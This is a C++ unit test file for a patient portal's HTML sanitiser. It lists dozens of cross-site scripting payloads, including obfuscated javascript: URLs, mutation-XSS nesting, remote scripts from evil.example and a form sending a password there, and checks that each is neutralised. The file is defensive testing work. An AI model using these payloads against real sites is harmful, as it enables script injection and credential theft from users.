// SPDX-License-Identifier: Apache-2.0
#include "portal/sanitise.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "base/encoding.h"
#include "base/limits.h"
#include "portal/run_tool.h"

namespace phimilter::portal {
namespace {

std::optional<std::string> one_picture(std::string_view id) {
  return id == "logo@clinic" ? std::optional<std::string>("data:image/png;base64,AAAA")
                             : std::nullopt;
}

std::string clean(std::string_view html) {
  auto result = sanitise(html, one_picture);
  return result ? result->markup.str() : "fault " + result.error().id;
}

std::size_t blocked(std::string_view html) {
  auto result = sanitise(html, one_picture);
  return result ? result->remote_blocked : 9999;
}

// By class of attack, not by copy: each would run, load, submit or cover something in a browser.
const std::vector<std::string>& vectors() {
  static const std::vector<std::string> all = {
      "<script>alert(1)</script>",
      "<ScRiPt src=//evil.example/x.js></sCrIpT>",
      "<script/x>alert(1)</script\t>",
      "<<script>alert(1)//<</script>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<img src=x onerror=alert(1)>",
      "<img src='x'onerror=alert(1)>",
      "<img/src=x/onerror=alert(1)>",
      "<img \"\"\"><script>alert(1)</script>\">",
      "<img src=\"javascript:alert(1)\">",
      "<img srcset=\"https://evil.example/a.png 1x\">",
      "<img src=https://evil.example/pixel.gif width=1 height=1>",
      "<img src=\"data:text/html,<script>alert(1)</script>\">",
      "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\" onload=alert(1)>",
      "<body onload=alert(1) background=https://evil.example/b.png>x</body>",
      "<div onclick=alert(1) onmouseover='alert(2)' OnFocus=alert(3) autofocus tabindex=1>x</div>",
      "<p style=\"background:url(https://evil.example/x)\">x</p>",
      "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</p>",
      "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
      "<link rel=stylesheet href=https://evil.example/x.css>",
      "<link rel=dns-prefetch href=//evil.example>",
      "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
      "<base href=https://evil.example/>",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
      "<a href=\"java\tscript:alert(1)\">x</a>",
      "<a href=\"java\nscript:alert(1)\">x</a>",
      "<a href=\" \x01\x02javascript:alert(1)\">x</a>",
      "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
      "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
      "<a href=vbscript:msgbox(1)>x</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
      "<a href=\"file:///etc/passwd\">x</a>",
      "<a href=\"//evil.example\" ping=https://evil.example>x</a>",
      "<form action=https://evil.example><input name=password "
      "type=password><button>go</button></form>",
      "<input type=image src=https://evil.example/x.png formaction=javascript:alert(1)>",
      "<isindex action=javascript:alert(1) type=image>",
      "<iframe src=javascript:alert(1)></iframe>",
      "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
      "<frameset><frame src=https://evil.example></frameset>",
      "<object data=data:text/html,<script>alert(1)</script>></object>",
      "<embed src=https://evil.example/x.swf>",
      "<applet code=x archive=//evil.example/x.jar></applet>",
      "<svg onload=alert(1)><script>alert(1)</script></svg>",
      "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
      "<math><mtext><table><mglyph><style><img src=x "
      "onerror=alert(1)></style></mglyph></table></mtext></math>",
      "<math href=javascript:alert(1)>x</math>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "<textarea></textarea><img src=x onerror=alert(1)>",
      "<title></title><img src=x onerror=alert(1)>",
      "<xmp><img src=x onerror=alert(1)></xmp>",
      "<template><img src=x onerror=alert(1)></template>",
      "<!--><img src=x onerror=alert(1)>-->",
      "<!-- --!><img src=x onerror=alert(1)> -->",
      "<!--[if IE]><script>alert(1)</script><![endif]-->",
      "<![CDATA[<img src=x onerror=alert(1)>]]>",
      "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
      "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>",
      "<audio src=https://evil.example/x onerror=alert(1)></audio>",
      "<table background=https://evil.example/x><td background=\"javascript:alert(1)\">x</table>",
      "<details open ontoggle=alert(1)>x</details>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<keygen autofocus onfocus=alert(1)>",
      "<x-custom onclick=alert(1)>x</x-custom>",
      "<p title='\"><img src=x onerror=alert(1)>'>x</p><b onclick=1>",
      "<img alt='\"><script>alert(1)</script>' src=x onerror=1>",
      "<a href='https://ok.example/\"onmouseover=\"alert(1)' onclick=1>x</a>",
      "<p id=getElementById name=body class=wide onclick=1>clobber</p>",
      "<plaintext><img src=x onerror=alert(1)>",
      std::string("<scr\0ipt>alert(1)</scr\0ipt><img src=x onerror=1>", 49),
      "<img src=x onerror=alert(1)//",
      "<img src=x:x onerror\n=\nalert(1)>",
      "\xC0\xBCscript\xC0\xBE<b onclick=1>",
  };
  return all;
}

std::vector<std::vector<std::string>> judged(const std::vector<std::string>& documents) {
  const TempFolder folder;
  const std::string input = folder.write(
      "in.json",
      nlohmann::json(documents).dump(-1, ' ', true, nlohmann::json::error_handler_t::replace));
  const ToolResult result =
      run_tool("python3 " PHIMILTER_SOURCE_DIR "/tests/unit/portal/check_harmless.py < " + input);
  EXPECT_EQ(result.status, 0);
  return nlohmann::json::parse(result.output).get<std::vector<std::vector<std::string>>>();
}

TEST(Sanitise, JudgeSeesEveryVectorAsHarmful) {
  const auto problems = judged(vectors());
  ASSERT_EQ(problems.size(), vectors().size());
  std::size_t seen = 0;
  for (const auto& each : problems) {
    seen += each.empty() ? 0 : 1;
  }
  // Python's parser takes a few of the raw vectors for text or raw text; it must see the bulk of
  // them.
  EXPECT_GT(seen, vectors().size() * 9 / 10);
}

TEST(Sanitise, NothingHarmfulIsLeft) {
  std::vector<std::string> cleaned;
  for (const std::string& vector : vectors()) {
    cleaned.push_back(clean(vector));
  }
  const auto problems = judged(cleaned);
  ASSERT_EQ(problems.size(), cleaned.size());
  for (std::size_t i = 0; i < problems.size(); ++i) {
    EXPECT_TRUE(problems[i].empty())
        << vectors()[i] << "\n -> " << cleaned[i] << "\n " << problems[i].front();
  }
}

TEST(Sanitise, CleaningTwiceChangesNothing) {
  for (const std::string& vector : vectors()) {
    const std::string once = clean(vector);
    EXPECT_EQ(trim(clean(once)), trim(once)) << vector;
  }
}

// Nothing that an attack opens, and does not close, swallows what the sender wrote around it.
TEST(Sanitise, WordsAroundEachAttackStay) {
  std::string all = "<p>Dear Pat,</p>";
  for (const std::string& vector : vectors()) {
    const std::string cleaned = clean("<p>Dear Pat,</p>" + vector + "<p>Words stay.</p>");
    EXPECT_NE(cleaned.find("Dear Pat,"), std::string::npos) << vector;
    EXPECT_NE(cleaned.find("Words stay."), std::string::npos) << vector << "\n -> " << cleaned;
    all += vector + "<p>Words stay.</p>";
  }
  EXPECT_NE(clean(all).find("Words stay."), std::string::npos);
}

TEST(Sanitise, ShowsTheTextThatABrowserWouldShow) {
  struct Case {
    std::string_view html, cleaned;
  };
  for (const Case& each : {
           Case{"m<noscript><p>said</noscript><p>after", "m<p>said</p><p>after</p>"},
           Case{"m<object data=x><p>instead</object>after", "m<p>instead</p>after"},
           Case{"m<object><p>after", "m<p>after</p>"},
           Case{"m<applet>instead</applet>after", "minsteadafter"},
           Case{"m<video src=x>instead<p>after", "minstead<p>after</p>"},
           Case{"m<audio src=x></audio>after", "mafter"},
           Case{"m<canvas>instead</canvas>after", "minsteadafter"},
           Case{"m<select><option>one<p>after", "moneafter"},
           Case{"m<svg><text>drawn</text><p>after", "mdrawn<p>after</p>"},
           Case{"m<svg>after", "mafter"},
           Case{"m<svg><foreignObject><p>after", "m<p>after</p>"},
           Case{"m<svg><title>t</title><desc>d</desc><style>s</style><script>c</script></svg>after",
                "mafter"},
           Case{"<math><mi>x</mi><annotation>TeX</annotation></math>after", "xafter"},
           Case{"<math><mtext><table><mglyph><style><img></style></mglyph></table></mtext></math>"
                "<noscript><p title=\"</noscript>\">after",
                "<table></table><p title=\"&lt;/noscript&gt;\">after</p>"},
           Case{"m<textarea><b>typed", "m<pre>&lt;b&gt;typed</pre>"},
           Case{"m<xmp><b>typed</xmp>after", "m<pre>&lt;b&gt;typed</pre>after"},
           Case{"m<plaintext><b>typed", "m<pre>&lt;b&gt;typed</pre>"},
           Case{"m<desc>after", "mafter"},
           Case{"m<script>never", "m"},
           Case{"m<style>never", "m"},
           Case{"m<template>never</template>after", "mafter"},
           Case{"m<iframe>never</iframe>after", "mafter"},
           Case{"m<noembed>never</noembed>after", "mafter"},
       }) {
    const std::string cleaned = clean(each.html);
    EXPECT_EQ(cleaned, each.cleaned) << each.html;
    EXPECT_EQ(clean(cleaned), cleaned) << each.html;
  }
}

TEST(Sanitise, KeepsWhatALetterNeeds) {
  struct Case {
    std::string_view html, cleaned;
  };
  for (const Case& each : {
           Case{"<p>Dear <b>Pat</b>,<br>all <em>fine</em>.</p>",
                "<p>Dear <b>Pat</b>,<br>all <em>fine</em>.</p>"},
           Case{"<table border=1><tr><td colspan=2>a</td></tr></table>",
                "<table border=\"1\"><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>"},
           Case{"<a href=\"https://clinic.example/?a=1&amp;b=2\">x</a>",
                "<a href=\"https://clinic.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener "
                "noreferrer\">x</a>"},
           Case{"<a href=mailto:lab@clinic.example>x</a>",
                "<a href=\"mailto:lab@clinic.example\" target=\"_blank\" rel=\"noopener "
                "noreferrer\">x</a>"},
           Case{"5 &lt; 7 &amp; 'x'", "5 &lt; 7 &amp; &#39;x&#39;"},
           Case{"<img src=cid:logo@clinic alt=Logo width=10>",
                "<img src=\"data:image/png;base64,AAAA\" alt=\"Logo\" width=\"10\">"},
           Case{"<img src=cid:other alt=Logo>", "Logo"},
           Case{"<html><head><title>t</title><style>p{}</style></head><body><h1>H</h1></body></"
                "html>",
                "<h1>H</h1>"},
           Case{"<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"},
           Case{"", ""},
       }) {
    EXPECT_EQ(clean(each.html), each.cleaned);
  }
}

TEST(Sanitise, CountsWhatWouldHaveBeenFetched) {
  EXPECT_EQ(blocked("<p>nothing</p><img src=cid:logo@clinic>"), 0U);
  EXPECT_EQ(blocked("<img src=https://a.example/1.png><IMG SRC=//b.example/2.gif>"), 2U);
  EXPECT_EQ(blocked("<td background=x><p style='background:URL(https://a.example)'>"), 1U)
      << "a stray td is no cell";
  EXPECT_EQ(
      blocked("<table><td background=x></table><p style='background:URL(https://a.example)'>"), 2U);
}

TEST(Sanitise, HostileSizeAndDepthEndInAFaultOrInText) {
  std::string deep;
  for (int i = 0; i < 5'000; ++i) {
    deep += "<div>";
  }
  EXPECT_NE(clean(deep + "found").find("found"), std::string::npos);

  std::string reopened = "<p>";  // each further <p> opens every <font> again: quadratic
  for (int i = 0; i < 20'000; ++i) {
    reopened += "<font size=" + std::to_string(i) + ">";
  }
  for (int i = 0; i < 20'000; ++i) {
    reopened += "<p>x";
  }
  EXPECT_EQ(clean(reopened), "fault portal.html_dear");

  EXPECT_EQ(clean(std::string(limits::kHtmlBytes + 1, 'x')), "fault portal.html_large");
}

}  // namespace
}  // namespace phimilter::portal
